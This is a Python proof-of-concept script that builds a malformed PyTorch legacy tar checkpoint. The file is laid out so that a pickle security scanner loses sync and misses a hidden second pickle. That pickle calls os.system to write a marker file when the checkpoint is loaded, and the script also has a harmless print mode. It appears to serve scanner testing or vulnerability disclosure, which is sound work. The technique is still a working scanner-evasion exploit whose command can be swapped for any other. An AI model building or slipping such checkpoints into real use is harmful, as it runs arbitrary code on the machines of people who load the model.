# Tar checkpoint whose 'tensors' member holds, per tensor, ONE pickle (as torch's legacy_load reads it);
# the scanner reads two pickles per tensor, loses sync on the binary ndim/offset, and its walker is
# steered by the 4 ignored bytes into a BINBYTES that swallows the 2nd tensor's args pickle (the payload).
import io, struct, sys, tarfile
out = sys.argv[1]; harmless = len(sys.argv) > 2
mod, name, arg = (b'builtins', b'print', b'PAYLOAD REACHED') if harmless else (b'posix', b'system', b'echo PWNED > /tmp/pwned_marker')
payload = b'\x80\x02c' + mod + b'\n' + name + b'\n(X' + struct.pack('<I', len(arg)) + arg + b'tR.'
P = lambda o: __import__('pickle').dumps(o, protocol=2)
storages = P(1) + b'\x80\x02(X\x02\x00\x00\x00s0X\x03\x00\x00\x00cpuctorch\nFloatStorage\ntq\x00.' \
    + struct.pack('<q', 1) + b'\x00' * 4 + P([])
t0 = P(('k0', 's0', None)) + struct.pack('<i', 0)
rest_after_len = 6 + len(payload)          # storage_offset bytes 2..7 + the payload
skip4 = b'.B' + struct.pack('<H', rest_after_len)   # torch ignores these 4 bytes
t0 += skip4 + struct.pack('<q', 0)          # storage_offset 0: its low 2 bytes end the BINBYTES length
tensors = P(2) + t0 + payload
pickle_m = P({'k': 1})
buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode='w', format=tarfile.USTAR_FORMAT) as t:
    for n, data in [('storages', storages), ('tensors', tensors), ('pickle', pickle_m)]:
        ti = tarfile.TarInfo(n); ti.size = len(data); t.addfile(ti, io.BytesIO(data))
open(out, 'wb').write(buf.getvalue())
